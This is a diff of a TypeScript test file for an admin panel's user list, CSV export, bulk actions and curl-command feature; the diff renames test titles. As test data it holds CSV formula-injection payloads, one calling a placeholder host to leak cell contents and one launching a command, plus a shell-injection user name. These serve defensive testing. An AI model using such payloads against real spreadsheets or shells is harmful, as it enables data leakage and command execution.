@@ -22,7 +22,7 @@ before(async () => {
 });
 after(() => app.stop());
 
-test('formula injection: what people call themselves is text in every spreadsheet', async () => {
+test('attack: CSV formula injection by names and other user input', async () => {
   const formulas = [
     '=HYPERLINK("https://evil.example?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
@@ -76,7 +76,7 @@ function cellsOf(csv: string): string[][] {
   return rows;
 }
 
-test('the export has all pages of the list with its filters, and refuses what the list refuses', async () => {
+test('CSV export: every page of the list with its filters; refuses what the list refuses', async () => {
   const names = Array.from({ length: 30 }, (_, place) => `many-${String(place).padStart(2, '0')}`);
   for (const name of names) await app.createUser(name, { is_email_verified: false });
   const { body } = await admin.get(
@@ -94,7 +94,7 @@ test('the export has all pages of the list with its filters, and refuses what th
   equal((await new Agent(app).get('/admin/users/export')).status, 303);
 });
 
-test('many at once: asked with their names and number, done one by one, each in the audit log; one’s own account never', async () => {
+test('bulk act: confirmed with names and number, one by one, audited, never on oneself', async () => {
   const made = await Promise.all(['bulk-a', 'bulk-b', 'bulk-c'].map((name) => app.createUser(name)));
   const [a, b, c] = made.map(({ id }) => id);
   const csrf = hiddenFields((await admin.get('/admin/users?search=bulk-')).body).csrf ?? '';
@@ -144,7 +144,7 @@ test('many at once: asked with their names and number, done one by one, each in 
   equal(await isActive(a), true);
 });
 
-test('a form as an API call: pasted into a shell it does what the form would, whatever somebody called themselves', async () => {
+test('curl command of a form: does what the form would, whatever names contain', async () => {
   const hostile = `'; echo owned > owned; '$(echo owned)\`echo owned\` "\\`;
   const { id } = await app.createUser('shell', { name: hostile });
   const page = await admin.get(`/admin/users/${id}/edit`);
